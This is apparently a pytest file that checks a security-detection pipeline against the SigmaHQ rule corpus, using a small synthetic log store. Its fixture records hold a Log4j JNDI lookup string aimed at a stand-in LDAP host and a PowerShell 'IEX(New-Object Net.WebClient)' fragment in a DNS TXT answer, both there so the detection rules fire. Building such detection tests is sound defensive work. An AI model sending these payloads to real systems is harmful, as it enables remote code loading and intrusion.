"""SigmaHQ compatibility: every corpus rule whose log source the pipeline maps converts and runs.

The corpus (real SigmaHQ rules of every log source the range may meet) is read in place from
../shared/corpus/sigmahq.
A rule counts as *mapped* unless its only problem is a log source the pipeline does not map
(Cisco, FortiGate, Windows, Zeek logs the range does not record...). Of the mapped ones at least
95% must load, convert and run against a small real store; the rest are listed with the reason.
"""
from __future__ import annotations

from collections import Counter
from pathlib import Path

from range.detect import load_rules, rule_files, run
from range.events import EventStore

ROOT = Path(__file__).resolve().parents[2]
CORPUS = ROOT.parent / "shared" / "corpus" / "sigmahq"
T0 = 1_800_000_000.0


def corpus_store(path: Path) -> Path:
    """A little of everything, plus records some well-known corpus rules must catch."""
    s = EventStore(path)
    ident = lambda i, src="10.1.0.20", dst="10.1.1.5", dp=80: {  # noqa: E731
        "uid": f"C{i}", "id.orig_h": src, "id.orig_p": 40000 + i, "id.resp_h": dst, "id.resp_p": dp}
    s.add("conn", [{"ts": T0 + i, **ident(i, dp=p), "proto": "tcp", "conn_state": "SF", "service": "http"}
                   for i, p in enumerate([80, 443, 21, 23, 3306, 53])])
    s.add("dns", [
        {"ts": T0 + 1, **ident(10, dp=53), "proto": "udp", "query": "www.example.org", "qtype_name": "A",
         "rcode_name": "NOERROR", "answers": "93.184.216.34", "Z": 0},
        {"ts": T0 + 2, **ident(11, src="10.1.0.31", dp=53), "proto": "udp", "query": "api.telegram.org",
         "qtype_name": "A", "Z": 0},
        {"ts": T0 + 3, **ident(12, src="10.1.0.32", dp=53), "proto": "udp", "query": "c2.evil.test",
         "qtype_name": "TXT", "Z": 1, "answers": "IEX(New-Object Net.WebClient)"},
    ])
    s.add("http", [
        {"ts": T0 + 4, **ident(20), "method": "GET", "host": "intranet.gov.test", "uri": "/index.html",
         "user_agent": "Mozilla/5.0", "status_code": 200, "referrer": "-"},
        {"ts": T0 + 5, **ident(21, src="10.1.0.66"), "method": "GET", "host": "intranet.gov.test",
         "uri": "/search?q=${jndi:ldap://198.51.100.7/a}", "user_agent": "Mozilla/5.0", "status_code": 404},
        {"ts": T0 + 6, **ident(22, src="10.1.0.67", dst="8.8.8.8"), "method": "PUT", "host": "files.example.com",
         "uri": "/dav/x.exe", "user_agent": "Microsoft-WebDAV-MiniRedir/10.0", "status_code": 201},
        {"ts": T0 + 7, **ident(23, src="10.1.0.68", dst="10.1.1.9"), "method": "PUT", "host": "files.gov.test",
         "uri": "/dav/y.exe", "user_agent": "Microsoft-WebDAV-MiniRedir/10.0", "status_code": 201},
    ])
    s.add("ssh", [{"ts": T0 + 8, **ident(30, dp=22), "auth_success": 1, "client": "SSH-2.0-OpenSSH_9.2"}])
    s.add("ftp", [{"ts": T0 + 9, **ident(31, dp=21), "user": "anonymous", "command": "RETR", "arg": "/pub/x"}])
    s.add("telnet", [{"ts": T0 + 10, **ident(32, dp=23), "direction": "orig", "line": "ls"}])
    s.add("arp", [{"ts": T0 + 11, "operation": "request", "id.orig_h": "10.1.0.1", "id.resp_h": "10.1.0.2"}])
    s.close()
    return path


def test_sigmahq_corpus_runs(tmp_path, capsys):
    files = rule_files([CORPUS])
    assert any("/rules/network/" in str(f) for f in files) and any("/rules/web/" in str(f) for f in files), \
        f"no SigmaHQ network or web rules under {CORPUS}: the compatibility corpus is missing"
    rs = load_rules([CORPUS])
    db = corpus_store(tmp_path / "corpus.db")
    alerts, errors = run(rs, db)

    loaded = {r.file for r in rs.rules.values()} | {c.file for c in rs.correlations}
    unmapped = {e["file"] for e in rs.errors if "is not mapped" in e["message"]}
    failed: dict[str, list[str]] = {}
    for e in errors:
        if e["file"] not in unmapped:
            failed.setdefault(e["file"], []).append(e["message"])
    mapped = [str(f) for f in files if str(f) not in unmapped]
    ran = [f for f in mapped if f in loaded and f not in failed]

    sources = Counter(e["message"].split(")")[0].split("(")[-1] for e in rs.errors if e["file"] in unmapped)
    with capsys.disabled():
        print(f"\nSigmaHQ corpus: {len(files)} files, {len(mapped)} mapped, {len(ran)} ran, "
              f"{len(mapped) - len(ran)} failed, {len(unmapped)} unmapped")
        for f, msgs in sorted(failed.items()):
            print(f"  FAILED {Path(f).relative_to(CORPUS)}: {' / '.join(msgs)}")
        for src, n in sources.most_common():
            print(f"  unmapped log source ({src}): {n} rules")
        for w in rs.warnings:
            print(f"  warning {Path(w['file']).relative_to(CORPUS)}: {w['message']}")
    assert not unmapped & loaded
    assert len(ran) >= 0.95 * len(mapped), failed
    # failures are reported cleanly: every one names its file and gives a reason
    assert all(e["file"] and e["message"] for e in errors)

    fired = {a["rule_id"] for a in alerts}
    assert "5ea8faa8-db8b-45be-89b0-151b84c82702" in fired   # log4j JNDI in access logs (keywords)
    assert "c64c5175-5189-431b-a55e-6d9882158251" in fired   # Telegram API lookup
    assert "ede05abc-2c9e-4624-9944-9ff17fdc0bf5" in fired   # Zeek DNS Z bit set
    (webdav,) = [a for a in alerts if a["rule_id"] == "705072a5-bb6f-4ced-95b6-ecfa6602090b"]
    assert [e["id.resp_h"] for e in webdav["events"]] == ["8.8.8.8"]   # the private target is filtered


def test_legacy_aggregations_are_translated_or_reported(tmp_path):
    """unsupported/ holds Sigma 1 'count() by' rules: those with a timeframe become correlations."""
    unsupported = CORPUS / "unsupported"
    rs = load_rules([unsupported])
    files = {str(f) for f in rule_files([unsupported])}
    corr_files = {c.file for c in rs.correlations}
    reported = {e["file"] for e in rs.errors}
    assert files == corr_files | reported | {r.file for r in rs.rules.values()}
    assert len(corr_files) >= 8
    for e in rs.errors:
        assert "legacy aggregation" in e["message"]
    rate = [c for c in rs.correlations if c.id == "44d4a4a7-2ee8-4e8b-8c2b-8b7a5c46e0e7"] or \
        [c for c in rs.correlations if Path(c.file).name == "net_firewall_high_dns_requests_rate.yml"]
    (rate,) = rate
    assert rate.spec.kind == "event_count" and rate.spec.op == "gt" and rate.spec.threshold == 1000
    assert rate.spec.timespan == 60 and rate.spec.group_names == ["id.orig_h"]
